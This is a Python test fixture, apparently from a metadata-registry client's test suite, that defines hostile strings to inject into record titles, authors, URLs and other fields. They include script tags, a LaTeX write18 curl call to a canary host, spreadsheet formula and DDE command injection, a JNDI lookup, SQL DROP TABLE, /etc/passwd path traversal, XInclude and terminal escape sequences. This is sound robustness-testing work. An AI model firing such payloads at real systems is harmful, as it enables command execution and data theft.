"""Records about the right work, with words in them that would like to act."""

from __future__ import annotations

from tests.registry_server.faults import alter
from tests.registry_server.faults.kind import WORKS, XML, Kind, Means

WORDS = {
    "markup": "<script src='{canary}/x.js'></script><img src={canary}>",
    "tex": "\\input{/etc/passwd}\\write18{curl {canary}}$",
    "formula": '=HYPERLINK("{canary}","x")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "bidi": "\u202egnirtS\u202c \u2066x\u2069",
    "controls": "\x9b31m red \x85 \u2028 next",
    "tags": "ER  - \nTY  - JOUR\nTI  - other",
    "path": "../../../../etc/passwd",
    "rich": "[red]x[/red] [link={canary}]y[/link] {{7*7}} ${jndi:ldap://{canary}}",
    "sql": "'); DROP TABLE works; --",
    "search": '"*:^ NEAR( OR AND',
    "brace": "}, } @string{x = {y",
    "zero-width": "\u200b\u200d\ufeff\u00ad",
    "long-word": "x" * 100_000,
    "marks": "e" + "\u0301" * 5_000,
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 200,
    "address": "{canary}/page.html",
}
ESCAPES = {
    "escape": "\x1b[2J\x1b]0;owned\x07",
    "link": "\x1b]8;;{canary}\x07click\x1b]8;;\x07",
    "clipboard": "\x1b]52;c;Y3VybA==\x07",
    "nul": "a\0b",
    "backspace": "good\b\b\b\bevil\r",
}


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _title(name: str, text: str) -> list[Kind]:
    xml = alter.xml_title(_escaped(text))
    return [
        Kind(f"hostile-{name}-xml", means=Means.ODD, options={"alter": xml}, endpoints=XML),
        Kind(f"hostile-{name}-json", means=Means.ODD,
             options={"alter": alter.member(title=[text], container_title=[text],
                                            author=[{"family": text, "given": text}])},
             endpoints=WORKS),
    ]  # fmt: skip


def _json(name: str, text: str) -> Kind:
    altered = alter.member(title=[text], publisher=text, page=text, volume=text)
    return Kind(f"hostile-{name}-json", means=Means.ODD, options={"alter": altered},
                endpoints=WORKS)  # fmt: skip


KINDS = (
    *(kind for name, text in WORDS.items() for kind in _title(name, text)),
    *(_json(name, text) for name, text in ESCAPES.items()),
    Kind(
        "hostile-addresses", means=Means.ODD, endpoints=WORKS,
        options={"alter": alter.member(
            URL="{canary}/x", link=[{"URL": "{canary}/x"}], license=[{"URL": "{canary}/x"}],
            resource={"primary": {"URL": "{canary}/x"}}, update_policy="{canary}/x",
            abstract="<jats:p xmlns:xi='x'><xi:include href='{canary}/x'/></jats:p>",
        )},
    ),
)  # fmt: skip
